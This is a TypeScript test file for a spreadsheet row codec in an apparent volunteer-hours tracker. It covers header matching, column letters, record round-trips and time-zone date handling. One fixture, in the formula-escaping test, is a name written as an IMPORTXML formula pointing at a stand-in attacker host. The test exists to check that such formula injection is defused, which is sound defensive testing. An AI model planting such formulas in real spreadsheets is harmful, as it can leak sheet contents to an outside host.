import { describe, expect, it } from 'vitest';
import { hoursTab, type HoursEntry } from '../../../shared/records/hours';
import { meetingsTab } from '../../../shared/records/meeting';
import {
  cellsFromRecord,
  columnLetter,
  missingColumns,
  readHeader,
  rowFromCells,
  type HeaderIndex,
} from '../../../shared/records/row-codec';
import { headerRow, type TabDefinition } from '../../../shared/records/tab';
import { volunteersTab, type Volunteer } from '../../../shared/records/volunteer';

const karachi = { timeZone: 'Asia/Karachi' };
const london = { timeZone: 'Europe/London' };

function indexOf(tab: TabDefinition, headers: readonly unknown[]): HeaderIndex {
  const read = readHeader(tab, headers);
  if (!read.ok) throw new Error(read.message);
  return read.index;
}

const entry: HoursEntry = {
  id: '0b6f3a2e-8d4c-4e1a-9f7b-2c5d6e7f8a9b',
  volunteerId: 'V-1',
  day: '2026-11-27',
  hours: 2.25,
  category: 'project work',
  projectId: 'P-3',
  note: 'Wrote the survey',
  source: 'extension',
  loggedAt: '2026-11-27T10:00:00.000Z',
};

describe('readHeader', () => {
  it('finds columns by name wherever they are, ignoring case and spacing', () => {
    const headers = ['Logged at', 'my own column', 'HOURS', 'Day', 'Entry ID', ' Volunteer  ID ', 'Category', 'Source'];
    const index = indexOf(hoursTab, headers);
    expect(index.width).toBe(8);
    expect(Object.fromEntries(index.positions)).toEqual({
      loggedAt: 0,
      hours: 2,
      day: 3,
      id: 4,
      volunteerId: 5,
      category: 6,
      source: 7,
    });
  });

  it('names a missing required column', () => {
    const read = readHeader(hoursTab, ['Entry ID', 'Day', 'Hours', 'Category', 'Source', 'Logged at']);
    expect(read).toEqual({
      ok: false,
      message: 'The "Hours" tab has no "Volunteer ID" column; add it to the header row.',
      missing: ['Volunteer ID'],
      duplicated: [],
    });
  });

  it('names every missing column and any duplicate, with its letters', () => {
    const read = readHeader(hoursTab, ['Entry ID', 'Hours', 'Category', 'Source', 'Logged at', 'hours']);
    expect(read.ok).toBe(false);
    if (read.ok) return;
    expect(read.missing).toEqual(['Volunteer ID', 'Day']);
    expect(read.duplicated).toEqual(['Hours']);
    expect(read.message).toContain('has "Hours" twice (columns B and F); rename or delete one');
  });

  it('lets optional columns be absent', () => {
    const index = indexOf(hoursTab, ['Entry ID', 'Volunteer ID', 'Day', 'Hours', 'Category', 'Source', 'Logged at']);
    expect(index.positions.has('note')).toBe(false);
    expect(missingColumns(hoursTab, ['Entry ID', 'Volunteer ID', 'Day', 'Hours', 'Category', 'Source', 'Logged at']).map((c) => c.header)).toEqual([
      'Project ID',
      'Note',
    ]);
  });
});

describe('columnLetter', () => {
  it('counts like a spreadsheet', () => {
    expect([0, 1, 25, 26, 27, 51, 52, 701, 702].map(columnLetter)).toEqual(['A', 'B', 'Z', 'AA', 'AB', 'AZ', 'BA', 'ZZ', 'AAA']);
  });
});

describe('rowFromCells / cellsFromRecord', () => {
  it('round-trips a record through the tab\'s own header row', () => {
    const index = indexOf(hoursTab, headerRow(hoursTab));
    const cells = cellsFromRecord(hoursTab, index, entry, karachi);
    expect(cells).toEqual([
      "'0b6f3a2e-8d4c-4e1a-9f7b-2c5d6e7f8a9b",
      "'V-1",
      new Date('2026-11-26T19:00:00Z'),
      2.25,
      "'project work",
      "'P-3",
      "'Wrote the survey",
      "'extension",
      new Date('2026-11-27T10:00:00Z'),
    ]);
    expect(rowFromCells(hoursTab, index, cells, karachi)).toEqual({ ok: true, record: entry });
  });

  it('writes into reordered columns and leaves a lead\'s own columns blank', () => {
    const headers = ['Hours', 'Remarks', 'Entry ID', 'Day', 'Volunteer ID', 'Category', 'Source', 'Logged at'];
    const index = indexOf(hoursTab, headers);
    const cells = cellsFromRecord(hoursTab, index, entry, karachi);
    expect(cells.slice(0, 4)).toEqual([2.25, '', `'${entry.id}`, new Date('2026-11-26T19:00:00Z')]);
    // Project ID and Note have no column in this sheet: not written, and read back as absent.
    const { projectId, note, ...rest } = entry;
    expect(rowFromCells(hoursTab, index, cells, karachi)).toEqual({ ok: true, record: rest });
  });

  it('keeps a lead\'s own cells when rewriting a row', () => {
    const headers = ['Entry ID', 'Volunteer ID', 'Day', 'Hours', 'Lead comment', 'Category', 'Source', 'Logged at'];
    const index = indexOf(hoursTab, headers);
    const existing = ['x', 'x', 'x', 1, 'checked by Sana', 'x', 'x', 'x'];
    expect(cellsFromRecord(hoursTab, index, entry, { ...karachi, keep: existing })[4]).toBe('checked by Sana');
  });

  it('reads a row typed by a lead: numbers as text, any case, a date typed as text', () => {
    const index = indexOf(hoursTab, headerRow(hoursTab));
    const cells = ["'h-1", 'V-1', '27/11/2026', '1.5', 'Project Work', '', '', 'SHEET', new Date('2026-11-27T10:00:00Z')];
    expect(rowFromCells(hoursTab, index, cells, karachi)).toEqual({
      ok: true,
      record: { id: 'h-1', volunteerId: 'V-1', day: '2026-11-27', hours: 1.5, category: 'project work', source: 'sheet', loggedAt: '2026-11-27T10:00:00.000Z' },
    });
  });

  it('reports every problem with its column header, in column order', () => {
    const index = indexOf(hoursTab, headerRow(hoursTab));
    const cells = ['h-1', '', 'someday', -2, 'gaming', '', '', 'extension', '2026-11-27T10:00:00Z'];
    const read = rowFromCells(hoursTab, index, cells, karachi);
    expect(read.ok).toBe(false);
    if (read.ok) return;
    expect(read.error.tab).toBe('Hours');
    expect(read.error.issues.map((i) => [i.header, i.problem])).toEqual([
      ['Volunteer ID', 'is blank'],
      ['Day', expect.stringMatching(/^must be a date: "someday" is not a date I can read/)],
      ['Hours', 'must be more than 0 (found -2)'],
      ['Category', expect.stringMatching(/^must be one of: project work, .* \(found "gaming"\)$/)],
    ]);
    expect(read.error.message).toMatch(/^Hours: "Volunteer ID" is blank; "Day" must be a date: .*; "Hours" must be more than 0 \(found -2\); "Category" must be one of/);
  });

  it('reports a cross-column problem under the column it names', () => {
    const index = indexOf(meetingsTab, headerRow(meetingsTab));
    const cells = ['M-1', 'CIL meetup', 'November meetup', new Date('2026-11-27T14:00:00Z'), new Date('2026-11-27T13:00:00Z'), '', '', '', '', ''];
    const read = rowFromCells(meetingsTab, index, cells, karachi);
    expect(read.ok).toBe(false);
    if (!read.ok) expect(read.error.message).toBe('Meetings: "Ends at" must be after "Starts at" (found 2026-11-27T13:00:00.000Z)');
  });

  it('fills defaults for blank defaulted cells', () => {
    const index = indexOf(meetingsTab, headerRow(meetingsTab));
    const cells = ['M-1', 'hack night', 'Hack night', new Date('2026-11-27T14:00:00Z'), new Date('2026-11-27T17:00:00Z'), 'ABC-DEFG-HIJ', '', '', '', ''];
    const read = rowFromCells(meetingsTab, index, cells, karachi);
    expect(read).toMatchObject({ ok: true, record: { expectedAttendees: 'all', meetCode: 'abc-defg-hij' } });
  });

  it('keeps text that looks like a formula as text, both ways', () => {
    const index = indexOf(volunteersTab, headerRow(volunteersTab));
    const volunteer: Volunteer = {
      id: 'V-9',
      name: '=IMPORTXML("http://evil.example","//a")',
      email: 'v9@example.org',
      role: 'member',
      status: 'active',
      joinedOn: '2026-01-15',
      team: '+92 300 1234567',
      notes: '@channel -- see =A1',
    };
    const cells = cellsFromRecord(volunteersTab, index, volunteer, karachi);
    const strings = cells.filter((cell): cell is string => typeof cell === 'string' && cell !== '');
    expect(strings.every((cell) => cell.startsWith("'"))).toBe(true);
    expect(rowFromCells(volunteersTab, index, cells, karachi)).toEqual({ ok: true, record: volunteer });
    // Sheets itself hands the text back without the apostrophe; it still reads as the same text.
    const asSheetsReturnsThem = cells.map((cell) => (typeof cell === 'string' ? cell.replace(/^'/, '') : cell));
    expect(rowFromCells(volunteersTab, index, asSheetsReturnsThem, karachi)).toEqual({ ok: true, record: volunteer });
  });

  it('throws on writing a record the schema refuses', () => {
    const index = indexOf(hoursTab, headerRow(hoursTab));
    expect(() => cellsFromRecord(hoursTab, index, { ...entry, hours: 30 }, karachi)).toThrow(
      'Cannot write an invalid record. Hours: "Hours" must be at most 24',
    );
  });

  it('refuses a header index made for another tab', () => {
    const index = indexOf(hoursTab, headerRow(hoursTab));
    expect(() => rowFromCells(volunteersTab, index, [], karachi)).toThrow(/used for "Volunteers"/);
  });
});

describe('date cells and calendar days', () => {
  const index = indexOf(hoursTab, headerRow(hoursTab));
  const dayCell = (day: HoursEntry['day'], options: { timeZone: string }) =>
    cellsFromRecord(hoursTab, index, { ...entry, day }, options)[2] as Date;
  const dayRead = (cell: Date, options: { timeZone: string }) => {
    const cells = cellsFromRecord(hoursTab, index, entry, options);
    cells[2] = cell;
    const read = rowFromCells(hoursTab, index, cells, options);
    if (!read.ok) throw new Error(read.error.message);
    return read.record.day;
  };

  it('writes a day as Karachi midnight and reads it back', () => {
    expect(dayCell('2026-11-27', karachi).toISOString()).toBe('2026-11-26T19:00:00.000Z');
    expect(dayRead(new Date('2026-11-26T19:00:00Z'), karachi)).toBe('2026-11-27');
  });

  it('reads a Karachi date cell with a time in it as its day', () => {
    expect(dayRead(new Date('2026-11-26T19:30:00Z'), karachi)).toBe('2026-11-27');
    expect(dayRead(new Date('2026-11-27T18:59:59Z'), karachi)).toBe('2026-11-27');
  });

  it('writes London days at local midnight in both GMT and BST', () => {
    expect(dayCell('2026-01-15', london).toISOString()).toBe('2026-01-15T00:00:00.000Z');
    expect(dayCell('2026-07-15', london).toISOString()).toBe('2026-07-14T23:00:00.000Z');
    expect(dayCell('2026-03-29', london).toISOString()).toBe('2026-03-29T00:00:00.000Z');
    expect(dayCell('2026-03-30', london).toISOString()).toBe('2026-03-29T23:00:00.000Z');
    expect(dayCell('2026-10-25', london).toISOString()).toBe('2026-10-24T23:00:00.000Z');
  });

  it('round-trips every day of a DST year in London and Karachi', () => {
    for (const options of [london, karachi]) {
      for (let n = 0; n < 366; n++) {
        const day = new Date(Date.UTC(2026, 0, 1 + n)).toISOString().slice(0, 10) as HoursEntry['day'];
        expect(dayRead(dayCell(day, options), options)).toBe(day);
      }
    }
  });
});
